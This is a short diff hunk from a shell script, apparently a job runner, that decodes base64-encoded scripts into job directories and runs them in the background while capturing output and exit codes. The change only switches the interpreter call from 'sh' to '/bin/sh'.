@@ -25,7 +25,7 @@ while :; do
     [ "$c" = - ] || $B rm -f "$D/$c/o" "$D/$c/s"
     if ! $B mkdir "$D/$b" 2>/dev/null; then echo "w $b"; continue; fi
     echo "$e" | $B base64 -d >"$D/$b/s"; echo "a $b"
-    ( sh "$D/$b/s" </dev/null >"$D/$b/o" 2>&1; echo $? >"$D/$b/t"; $B mv "$D/$b/t" "$D/$b/c"; result "$b" ) &
+    ( /bin/sh "$D/$b/s" </dev/null >"$D/$b/o" 2>&1; echo $? >"$D/$b/t"; $B mv "$D/$b/t" "$D/$b/c"; result "$b" ) &
     ;;
   esac
 done
